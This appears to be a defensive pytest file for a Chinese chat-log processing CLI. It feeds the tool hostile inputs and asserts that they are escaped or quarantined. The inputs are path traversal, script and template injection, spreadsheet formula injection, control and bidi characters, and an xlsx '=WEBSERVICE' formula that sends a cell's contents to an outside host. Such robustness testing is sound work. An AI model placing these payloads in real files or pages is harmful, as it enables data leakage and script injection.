"""One night with everything hostile in it, through the whole command: it is audited or refused, and nothing escapes."""

import csv
import json
import re
from pathlib import Path

import pytest
import xlsxwriter

from tests.cli.conftest import Qa

HEADER = ["会话ID", "消息ID", "发送时间", "角色", "客服账号", "客户ID", "店铺", "消息内容"]
HOSTILE = (
    *("../../x", "<script>alert(1)</script>", "</script><!--", "=HYPERLINK(\"x\")", "+1", "-1+1", "@SUM(1)", "\u202e倒\u202d"),
    *("\x1b[31m红", "a\x00b", "\x7f\x85", "\ud800半个", "\ufdd0\uffff", "\u2028\u2029", "{{ 7*7 }}", "{% raw %}", "%s%n", "\\..\\x"),
    *("con", ".", "..", "/", "a" * 5_000, "👩‍👩‍👧‍👦" * 20, "&lt;b&gt;", "' onload='", "`", "\r", "e\u0301" * 40),
)  # fmt: skip
TIMES = ("1900-01-01 00:00:00", "2999-12-31 23:59:59", "0", "99999999999999999999", "2026-02-30 10:00:00", "24:00:00")


def rows() -> list[list[str]]:
    """Return sessions in which each hostile text stands once as every id and once as what was said."""
    out = []
    for number, text in enumerate(HOSTILE):
        day = f"2026-12-01 {10 + number % 10}:{number:02}"
        out.append(
            [f"s{number}{text}", f"m{number}{text}", f"{day}:01", "客户", text, f"客{text}", text, f"在吗{text}"]
        )
        out.append([f"s{number}{text}", f"n{number}{text}", f"{day}:09", "客服", text, f"客{text}", text, text])
    for number, time in enumerate(TIMES):
        out.append([f"t{number}", "", time, "客服", "a", "c", "店", "您好"])
    return out


def as_csv(path: Path) -> None:
    with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as sink:
        csv.writer(sink, quoting=csv.QUOTE_ALL).writerows([HEADER, *rows()])


def as_jsonl(path: Path) -> None:
    path.write_text("".join(json.dumps(dict(zip(HEADER, row, strict=True))) + "\n" for row in rows()), "utf-8")


def as_xlsx(path: Path) -> None:
    options = {"strings_to_formulas": False, "strings_to_urls": False}
    with xlsxwriter.Workbook(str(path), options) as book:
        page = book.add_worksheet("<b>'x")
        for number, row in enumerate([HEADER, *rows()]):
            for column, cell in enumerate(row):
                page.write_string(number, column, cell.encode("utf-8", "replace").decode("utf-8"))
        page.write_formula(len(rows()) + 1, 7, '=WEBSERVICE("http://192.0.2.1/"&A2)', None, "算出来的")
        page.write_formula(len(rows()) + 2, 7, "='[2]other.xlsx'!A1", None, "外部链接")
        book.add_worksheet("隐藏").hide()


@pytest.mark.parametrize("write", [as_csv, as_jsonl, as_xlsx])
def test_nothing_escapes(write: object, qa: Qa, tmp_path: Path) -> None:
    suffix = write.__name__.removeprefix("as_")  # type: ignore[attr-defined]
    log = tmp_path / f"<b>夜\x1b[31m班.{suffix}"
    write(log)  # type: ignore[operator]
    before = set(tmp_path.rglob("*"))
    done = qa("run", log, "--out", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]", done.stdout + done.stderr)
    made = set(tmp_path.rglob("*")) - before
    assert {path for path in made if not path.is_relative_to(tmp_path / "out")} <= {tmp_path / ".out.lock"}
    manifest = json.loads((tmp_path / "out" / "run.json").read_text("utf-8"))
    counts = manifest["counts"]
    assert counts["read"] == counts["messages"] + counts["quarantined"] + counts["duplicates"] >= len(rows())
    assert counts["quarantined"] >= len(TIMES)
    for page in made:
        if page.suffix == ".html":
            assert re.fullmatch(r"[a-z0-9-]+\.html", page.name)
            text = page.read_text("utf-8")
            assert "<script>alert" not in text and "onload='" not in text and "\x1b" not in text and ">49<" not in text
        if page.suffix == ".csv":
            with page.open(encoding="utf-8-sig", newline="") as sheet:
                assert not [cell for line in csv.reader(sheet) for cell in line if re.match(r"[=+@\t\r]|-\D", cell)]


def test_ten_thousand_columns(qa: Qa, tmp_path: Path) -> None:
    wide = [HEADER + [f"列{i}" for i in range(10_000)], *(row + ["1"] * 10_000 for row in rows()[:20])]
    with (tmp_path / "a.csv").open("w", encoding="utf-8", newline="") as sink:
        csv.writer(sink).writerows(wide)
    done = qa("run", tmp_path / "a.csv", "--out", tmp_path / "out")
    assert done.returncode == 0
    assert len(done.stdout) < 10_000
    assert (tmp_path / "out" / "run.json").stat().st_size < 200_000
